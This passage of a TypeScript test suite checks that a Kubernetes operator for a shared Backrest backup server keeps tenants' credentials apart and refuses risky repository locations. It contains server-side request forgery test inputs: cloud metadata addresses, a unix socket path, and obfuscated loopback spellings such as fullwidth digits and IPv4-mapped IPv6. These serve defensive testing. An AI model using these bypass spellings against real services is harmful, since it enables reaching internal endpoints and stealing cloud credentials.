    secret(`s-${name}`, { RESTIC_PASSWORD: "tenant-password-1", ...data }),
    replicationSource(name, `s-${name}`),
    binding(name, { url, source: name, repo: { idOverride: `own-${ns}-${name}` } }),
  ];
  await create(
    ns,
    ...repo("s3", {
      RESTIC_REPOSITORY: `s3:${tenantS3.url}/bucket`,
      AWS_ACCESS_KEY_ID: "TENANTAKID",
      AWS_SECRET_ACCESS_KEY: "tenant-secret-1",
    }),
    ...repo("rest", { RESTIC_REPOSITORY: `rest:${tenantRest.url}/repo/` }),
    ...repo("swift", {
      RESTIC_REPOSITORY: "swift:container:/p",
      ST_AUTH: `${tenantSwift.url}/auth/v1.0`,
      ST_USER: "tenant-user",
      ST_KEY: "tenant-key-1",
    }),
    ...repo("azure", {
      RESTIC_REPOSITORY: "azure:container:/p",
      AZURE_ACCOUNT_NAME: "tenantacct",
      AZURE_ACCOUNT_SAS: "sv=2020-08-04&sig=TENANTSAS",
    }),
    ...repo("b2", {
      RESTIC_REPOSITORY: "b2:tenantbucket:p",
      B2_ACCOUNT_ID: "tenantb2id",
      B2_ACCOUNT_KEY: "tenant-b2-key",
    }),
    // Credentials restic would read as none, and none at all: Backrest's would fill in.
    ...repo("s3-empty", {
      RESTIC_REPOSITORY: `s3:${tenantS3.url}/empty`,
      AWS_ACCESS_KEY_ID: "",
      AWS_SECRET_ACCESS_KEY: "",
    }),
    ...repo("s3-none", { RESTIC_REPOSITORY: `s3:${tenantS3.url}/none` }),
    ...repo("azure-empty", {
      RESTIC_REPOSITORY: "azure:other:/p",
      AZURE_ACCOUNT_NAME: "tenantacct",
      AZURE_ACCOUNT_KEY: "",
    }),
    ...repo("swift-os-half", { RESTIC_REPOSITORY: "swift:c:/p", OS_AUTH_URL: `${tenantSwift.url}/v3` }),
    ...repo("gs", { RESTIC_REPOSITORY: "gs:bucket:/p", GOOGLE_PROJECT_ID: "tenant-project" }),
  );
  const op = await operatorFor(cfg, ns);
  const resticReached = (where: string, check: () => boolean) =>
    waitUntil(`restic reached ${where}`, () => Promise.resolve(check()), { timeoutMs: 60_000 });
  try {
    await t.step(
      "a Secret without whole, non-empty credentials of its own is refused before Backrest",
      async () => {
        for (const name of ["s3-empty", "s3-none", "azure-empty", "swift-os-half", "gs"]) {
          const c = await waitForReason(cp, ns, name, "RepositorySecretInvalid");
          assert.match(c.message, /is empty|needs|can only use/, name);
        }
        assert.ok(!tenantS3.requests.some((r) => /\/(empty|none)/.test(r.path)), "restic never ran for them");
      },
    );
    await t.step(
      "s3: the tenant's key is used, without Backrest's session token or assumed role",
      async () => {
        await resticReached("the tenant's s3", () => tenantS3.requests.length > 0);
        const auth = tenantS3.requests.map((r) => r.headers["authorization"] ?? "").join("\n");
        assert.match(auth, /Credential=TENANTAKID\//);
        assert.ok(tenantS3.requests.every((r) => !("x-amz-security-token" in r.headers)), "no session token");
      },
    );
    await t.step("rest: no Backrest user or password in the Basic auth", async () => {
      await resticReached("the tenant's rest", () => tenantRest.requests.length > 0);
      for (const r of tenantRest.requests) {
        const basic = r.headers["authorization"]?.replace(/^Basic /, "");
        assert.ok(basic === undefined || !atob(basic).includes(canary), atob(basic ?? ""));
      }
    });
    await t.step("swift: the tenant's ST_* at the tenant's auth URL, not Backrest's OS_*", async () => {
      await resticReached("the tenant's swift", () => tenantSwift.requests.length > 0);
      const first = tenantSwift.requests[0]!;
      assert.equal(first.headers["x-auth-user"], "tenant-user");
      assert.equal(first.headers["x-auth-key"], "tenant-key-1");
    });
    await t.step("azure: the tenant's SAS, at the tenant's account under the default suffix", async () => {
      await resticReached(
        "Azure",
        () => planted.cloud.requests.some((r) => r.host.startsWith("tenantacct.")),
      );
      assert.ok(planted.cloud.connects.every((c) => !c.includes(canary)), "never Backrest's endpoint suffix");
      for (const r of planted.cloud.requests.filter((r) => r.host.startsWith("tenantacct."))) {
        assert.equal(r.host, "tenantacct.blob.core.windows.net");
        assert.ok(
          !("authorization" in r.headers),
          "no SharedKey signature: Backrest's account key never won",
        );
        assert.match(r.path, /sig=TENANTSAS/);
      }
    });
    await t.step("b2: the tenant's account id and key", async () => {
      await resticReached(
        "Backblaze",
        () => planted.cloud.requests.some((r) => r.host.includes("backblazeb2")),
      );
      const auth = planted.cloud.requests.find((r) =>
        r.host.includes("backblazeb2")
      )!.headers["authorization"] ?? "";
      assert.equal(atob(auth.replace(/^Basic /, "")), "tenantb2id:tenant-b2-key");
    });
    await t.step(
      "nothing of Backrest's reached any listener, and its identity endpoints were never asked",
      () => {
        for (
          const [where, text] of Object.entries({
            s3: tenantS3.text(),
            rest: tenantRest.text(),
            swift: tenantSwift.text(),
            cloud: planted.cloud.text(),
            identity: planted.identity.text(),
          })
        ) {
          assert.ok(!text.includes(canary), `${where} received Backrest's own credentials`);
        }
        assert.deepEqual(planted.identity.requests, [], "Backrest's STS, ECS, managed identity and Keystone");
      },
    );
  } finally {
    await op.stop();
    await planted.stop();
    await Promise.all([tenantS3.close(), tenantRest.close(), tenantSwift.close()]);
  }
});

Deno.test("tenant: a repository must be storage: no unix socket, no metadata service, no loopback unless the admin allows it", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("location");
  // Listeners inside "Backrest's pod": a unix socket and a loopback port.
  const socketPath = `${await tempDir("sock")}/backrest-sidecar.sock`;
  const socketSeen: string[] = [];
  const socket = Deno.serve({ path: socketPath, transport: "unix", onListen() {} }, (req) => {
    socketSeen.push(new URL(req.url).pathname);
    return new Response("no", { status: 403 });
  });
  const sidecar = startRecorder();
  const cases: [string, Record<string, string>, string][] = [
    ["unix", { RESTIC_REPOSITORY: `rest:http+unix://${socketPath}:/repo/` }, "RepositorySecretInvalid"],
    [
      "swift-unix",
      {
        RESTIC_REPOSITORY: "swift:c:/p",
        ST_AUTH: `http+unix://${socketPath}:/auth/v1.0`,
        ST_USER: "u",
        ST_KEY: "tenant-key-1",
      },
      "RepositorySecretInvalid",
    ],
    [
      "metadata",
      { RESTIC_REPOSITORY: "rest:http://169.254.169.254/latest/" },
      "RepositoryLocationNotAllowed",
    ],
    [
      "metadata-v6",
      { RESTIC_REPOSITORY: "rest:http://[::ffff:a9fe:a9fe]/x/" },
      "RepositoryLocationNotAllowed",
    ],
    [
      "mapped",
      { RESTIC_REPOSITORY: `rest:http://[::ffff:127.0.0.1]:${sidecar.port}/r/` },
      "RepositoryLocationNotAllowed",
    ],
    [
      "upper",
      { RESTIC_REPOSITORY: `rest:http://LOCALHOST:${sidecar.port}/r/` },
      "RepositoryLocationNotAllowed",
    ],
    [
      "unspecified",
      { RESTIC_REPOSITORY: `rest:http://0.0.0.0:${sidecar.port}/r/` },
      "RepositoryLocationNotAllowed",
    ],
    [
      "fullwidth",
      { RESTIC_REPOSITORY: `rest:http://１２７.０.０.１:${sidecar.port}/r/` },
      "RepositoryLocationNotAllowed",
    ],
    [
      "s3-loopback",
      {
        RESTIC_REPOSITORY: `s3:http://127.0.0.1:${sidecar.port}/bucket`,
        AWS_ACCESS_KEY_ID: "a",
        AWS_SECRET_ACCESS_KEY: "tenant-secret-1",
      },
      "RepositoryLocationNotAllowed",
    ],
  ];
  for (const [name, data] of cases) {
    await create(
      ns,
      secret(`s-${name}`, { RESTIC_PASSWORD: "tenant-password-1", ...data }),
      replicationSource(name, `s-${name}`),
      binding(name, {
        url: backrest.url,
        source: name,
        repo: { idOverride: `loc-${ns}-${name}`, autoInitialize: true },
      }),
    );
  }
  // The admin has not allowed local addresses here (the tests' baseline does).
  await operatorConfig(cfg, { repositoryPolicy: { allowLocalAddresses: false } });
  const op = await operatorFor(cfg, ns);
  try {
    for (const [name, , reason] of cases) {
      const c = await waitForReason(cp, ns, name, reason);
      assert.ok(!c.message.includes(String(sidecar.port)) && !c.message.includes(socketPath), c.message);
    }
    // Allowed now: loopback and its other spellings go through; the socket and the metadata service never.
    await operatorConfig(cfg, { repositoryPolicy: { allowLocalAddresses: true } });
    await waitUntil("loopback reached once allowed", () => Promise.resolve(sidecar.requests.length > 0), {
      timeoutMs: 60_000,
    });
    const still = [["unix", "RepositorySecretInvalid"], [
      "metadata",
      "RepositoryLocationNotAllowed",
    ]] as const;
    for (const [name, reason] of still) {
      assert.equal((await readyCondition(cp, ns, name))?.reason, reason, name);
    }
    assert.deepEqual(socketSeen, [], "nothing reached the socket in Backrest's pod");
    for (
      const [name] of cases.filter(([n]) => ["unix", "swift-unix", "metadata", "metadata-v6"].includes(n))
    ) {
      assert.equal(await backrestRepo(backrest, `loc-${ns}-${name}`), undefined, name);
    }
  } finally {
    await op.stop();
    await socket.shutdown();
    await sidecar.close();
  }
});

Deno.test("tenant: what one namespace may ask of the shared Backrest is bounded: size, schedules, priority, waits, connections", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("fairuse");
  const repo = await createResticRepo();
  const configSize = async () =>
    JSON.stringify(await backrest.getConfig(), (_, v) => typeof v === "bigint" ? String(v) : v).length;
  const sizeBefore = await configSize();
  const huge = Object.fromEntries(
    [
      "AWS_SESSION_TOKEN",
      "OS_AUTH_TOKEN",
      "OS_PASSWORD",
      "ST_KEY",
      "B2_ACCOUNT_KEY",
      "AZURE_ACCOUNT_SAS",
      "OS_USERNAME",
      "ST_USER",
    ]
      .map((k) => [k, "z".repeat(110_000)]),
  );
  const refused: [string, Record<string, unknown>, RegExp][] = [
    [
      "prune-every-minute",
      { prunePolicy: { schedule: { cron: "* * * * *" } } },
      /prunePolicy\.schedule runs as often as every 1m/,
    ],
    [
      "check-hourly",
      { checkPolicy: { schedule: { maxFrequencyHours: 1 }, structureOnly: true } },
      /checkPolicy\.schedule .*minScheduleInterval/,
    ],
    [
      "priority",
      { commandPrefix: { cpuNice: "CPU_HIGH", ioNice: "IO_BEST_EFFORT_HIGH" } },
      /allowRaisedPriority/,
    ],
    ["stuck", { extraFlags: ["--stuck-request-timeout=999999h"] }, /maxStuckRequestTimeout \(30m\)/],
    ["connections", { extraFlags: ["-o rest.connections=1000000"] }, /maxConnections \(16\)/],
    ["read-all", { checkPolicy: { readDataSubsetPercent: 100 } }, /maxReadDataSubsetPercent \(10\)/],
  ];
  await create(
    ns,
    secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
    secret("s-huge", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password, ...huge }),
    replicationSource("src", "s"),
    replicationSource("huge", "s-huge"),
    binding("huge", { url: backrest.url, source: "huge", repo: { idOverride: `fair-${ns}-huge` } }),
    ...refused.map(([name, settings]) =>
      binding(name, {
        url: backrest.url,
        source: "src",
        repo: { idOverride: `fair-${ns}-${name}`, ...settings },
      })
    ),
    binding("fine", {
      url: backrest.url,
      source: "src",
      repo: {
        idOverride: `fair-${ns}-fine`,
        prunePolicy: { schedule: { cron: "0 3 * * 0" } },
        commandPrefix: { cpuNice: "CPU_LOW", ioNice: "IO_IDLE" },
        extraFlags: ["--stuck-request-timeout=10m", "-o rest.connections=8"],
      },
    }),
  );
  const op = await operatorFor(cfg, ns);
  try {
    const big = await waitForReason(cp, ns, "huge", "RepositorySecretInvalid");
    assert.match(big.message, /holds 110000 bytes; at most 8192/);
    for (const [name, , message] of refused) {
      const c = await waitForReason(cp, ns, name, "RepoSettingsNotAllowed");
      assert.match(c.message, message, name);
      assert.equal(await backrestRepo(backrest, `fair-${ns}-${name}`), undefined, `${name} never sent`);
    }
    await waitForReason(cp, ns, "fine", "Applied", 60_000);
    assert.equal(await backrestRepo(backrest, `fair-${ns}-huge`), undefined);
    assert.ok(
      await configSize() - sizeBefore < 8192,
      "Backrest's config grew by one small repo, not by 880 KB",
    );
    // The admin raises a limit: what was refused for it applies.
    await operatorConfig(cfg, {
      repositoryPolicy: { taskLimits: { minScheduleInterval: "1m", maxConnections: 1000 } },
    });
    await waitForReason(cp, ns, "prune-every-minute", "Applied", 60_000);
    assert.match((await readyCondition(cp, ns, "connections"))?.message ?? "", /maxConnections \(1000\)/);
    assert.equal(
      (await backrestRepo(backrest, `fair-${ns}-prune-every-minute`))?.prunePolicy?.schedule?.schedule.value,
      "* * * * *",
    );
  } finally {
    await op.stop();
  }
});

Deno.test("tenant: metrics name a Backrest by origin, never by a tenant's path, and forget a Backrest no Binding uses", async () => {
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("metrics");
  const elsewhere = startRecorder(404);
  const repo = await createResticRepo();
  await create(
    ns,
    secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
    replicationSource("src", "s"),
  );
  const paths = ["/a", "/b/c", "/tenant-chosen-1", "/tenant-chosen-2"];
  for (const [i, path] of paths.entries()) {
    await create(
      ns,
      binding(`b${i}`, {
        url: `${elsewhere.url}${path}`,
        source: "src",
        repo: { idOverride: `m-${ns}-${i}` },
      }),
    );
  }
  const op = await operatorFor(cfg, ns);
  const series = () =>
    op.metrics.registry.render().split("\n").filter((l) =>
      l.startsWith("backrest_volsync_backrest_requests_total{")
    );
  try {
    await waitUntil("calls counted", () => Promise.resolve(series().length > 0), { timeoutMs: 30_000 });
    const labels = new Set(series().map((l) => /backrest="([^"]*)"/.exec(l)?.[1]));
    assert.deepEqual([...labels], [elsewhere.url], "one origin, no path");
    for (const i of paths.keys()) await deleteBinding(ns, `b${i}`);
    await waitUntil("the Backrest's series dropped", () => Promise.resolve(series().length === 0), {
      timeoutMs: 10_000,
    });
  } finally {
    await op.stop();
    await elsewhere.close();
  }
});
